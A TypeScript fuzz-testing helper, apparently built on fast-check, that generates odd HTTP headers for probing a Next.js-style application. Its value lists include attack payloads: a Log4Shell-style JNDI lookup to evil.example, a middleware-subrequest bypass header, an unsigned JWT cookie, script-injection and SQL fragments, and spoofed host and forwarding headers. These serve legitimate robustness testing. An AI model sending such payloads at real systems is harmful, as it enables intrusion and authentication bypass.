import fc from 'fast-check'

/** A header, as it is sent; two of one name are two lines. */
export type Header = [name: string, value: string]

const values: Record<string, string[]> = {
  accept: ['*/*', 'text/html', 'application/json', 'image/avif', 'text/x-component', ',,,;q=9'],
  'accept-encoding': ['identity', 'br', 'gzip, br;q=0', '*;q=0', 'x'.repeat(200), 'zstd, deflate'],
  'accept-language': ['de', '*', 'x-'.repeat(100), "';--"],
  'x-http-method-override': ['DELETE', 'GET', 'PUT'],
  'x-payload-http-method-override': ['GET', 'DELETE', 'get'],
  'x-method-override': ['PATCH'],
  'x-forwarded-for': ['127.0.0.1', '1.2.3.4, ::1', 'x'.repeat(500), "'"],
  'x-forwarded-host': ['evil.example', 'localhost:1'],
  'x-forwarded-proto': ['https', 'javascript'],
  'x-patchbay-address': ['127.0.0.1'],
  'x-real-ip': ['::1'],
  forwarded: ['for=1.1.1.1;host=evil.example'],
  'x-middleware-subrequest': ['proxy:proxy:proxy:proxy:proxy', 'src/proxy'],
  'x-nextjs-data': ['1'],
  'x-invoke-status': ['500'],
  'x-invoke-path': ['/admin'],
  'x-matched-path': ['/admin'],
  'x-nonce': ['abc', "' 'unsafe-inline"],
  'x-path': ['/portal', 'javascript:alert(1)'],
  'next-action': ['x', '0'.repeat(40), '00'.repeat(21), '../../x'],
  rsc: ['1', '0', 'x'],
  'next-router-prefetch': ['1', '2', 'x'],
  'next-router-segment-prefetch': ['/_tree', '/../x', '%'],
  'next-router-state-tree': ['x', '%5B%22%22%5D', '{}', 'null', '%', `%5B${'%5B'.repeat(300)}`],
  'next-url': ['/portal', 'http://evil.example/', '%00', '(.)x'],
  'next-hmr-refresh': ['1'],
  'if-match': ['*', '"1"', 'W/"x"', '"', '0', '2026-11-22T00:00:00.000Z', '9'.repeat(300)],
  'if-none-match': ['*', '"x"', 'W/"x", "y"', ','],
  'if-modified-since': ['Sun, 22 Nov 2026 00:00:00 GMT', 'never', '-1'],
  range: ['bytes=0-0', 'bytes=-1', 'bytes=5-1', 'bytes=0-1,2-3', 'bytes=999999999999999999999-', 'lines=1'],
  'idempotency-key': ['abcdefgh', 'x', 'a'.repeat(128), 'a'.repeat(129), 'key with space', 'é1234567'],
  origin: ['https://evil.example', 'null', 'http://localhost.evil.example', 'x', ''],
  referer: ['https://evil.example/', 'x'],
  'sec-fetch-site': ['cross-site', 'same-site', 'none', 'same-origin', 'x'],
  'sec-fetch-mode': ['navigate', 'no-cors'],
  'content-encoding': ['gzip', 'br', 'x'],
  'transfer-encoding': ['chunked'],
  expect: ['100-continue', 'x'],
  upgrade: ['websocket', 'h2c'],
  host: ['evil.example', 'localhost', '[::1]:3000', 'x'.repeat(300), ''],
  cookie: [
    'patchbay-token=x',
    'patchbay-token=eyJhbGciOiJub25lIn0.eyJpZCI6MX0.',
    'a=b; =; ;;',
    '__Host-patchbay-token=%',
    'patchbay-challenge=x',
    '__prerender_bypass=x',
    'x='.repeat(1500),
    'payload-theme="><script>',
  ],
  authorization: ['Bearer x', 'JWT x', 'users API-Key x', 'Basic Og=='],
  'content-type': ['application/json', 'text/plain'],
  'content-length': ['0'],
  'user-agent': ['', 'x'.repeat(4000), '${jndi:ldap://evil.example}', '\u00e9'],
  purpose: ['prefetch'],
  'x-action-redirect': ['/admin'],
  'x-prerender-revalidate': ['x'],
  'x-next-cache-tags': ['x'],
  'x-vercel-id': ['x'],
  trailer: ['x'],
}

const long = fc.constantFrom(6000, 17_000).map((length): Header => ['x-long', 'x'.repeat(length)])

// What breaks the message itself is sent by hand in raw.ts; here the request stays one that HTTP knows.
const unsafeToSend = new Set(['transfer-encoding', 'content-length', 'content-type', 'expect', 'upgrade', 'trailer'])

const odd: fc.Arbitrary<Header> = fc.oneof(
  {
    weight: 30,
    arbitrary: fc
      .constantFrom(...Object.keys(values).filter((name) => !unsafeToSend.has(name)))
      .chain((name) => fc.tuple(fc.constant(name), fc.constantFrom(...(values[name] ?? [''])))),
  },
  {
    weight: 2,
    arbitrary: fc.tuple(
      fc.constantFrom('x-other', 'accept', 'origin', 'referer'),
      fc.string({ maxLength: 40 }).map((text) => text.replace(/[^\x20-\x7e\x80-\xff]/g, '')),
    ),
  },
  { weight: 1, arbitrary: long },
)

/** Up to four odd headers, some of them twice; most requests have none. */
export const oddHeaders: fc.Arbitrary<Header[]> = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Header[]>([]) },
  { weight: 2, arbitrary: fc.array(odd, { minLength: 1, maxLength: 4 }) },
)
